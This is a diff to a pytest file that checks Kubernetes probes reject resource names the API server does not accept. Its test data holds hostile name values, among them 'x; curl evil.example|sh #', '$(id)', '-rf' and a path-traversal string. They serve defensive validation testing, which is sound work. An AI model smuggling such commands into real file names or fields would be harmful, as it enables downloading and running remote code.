@@ -15,6 +15,8 @@ HOSTILE = (
     "x; curl evil.example|sh #", "$(id)", "`id`", "a b", "it's", 'a"b', "a\nb", "-rf", "a/../b", "A", "", "a" * 254,
     "\x1b[0m", "\u202egnol", 7,
 )  # fmt: skip
+WIDE_PROBES = ("api.certificate-requests", "rbac.cluster-roles", "rbac.cluster-role-bindings")
+"""Probes of kinds whose names are any segment of a path."""
 PLACES = (("metadata", "name"), ("metadata", "namespace"), ("spec", "nodeName"), ("involvedObject", "namespace"))
 
 
@@ -43,7 +45,7 @@ def test_a_name_that_the_api_server_does_not_accept_is_not_used(path: Path) -> N
     document = json.loads(answer["stdout"])
     probe = index_probes()[path.parent.name]
     for name in HOSTILE[:-5]:
-        if probe.id.startswith("rbac.") and "/" not in str(name):
+        if probe.id in WIDE_PROBES and "/" not in str(name):
             continue
         document["items"][0]["metadata"]["name"] = name
         with pytest.raises(FactUnavailable, match="the API server accepts no such name" if name else None):
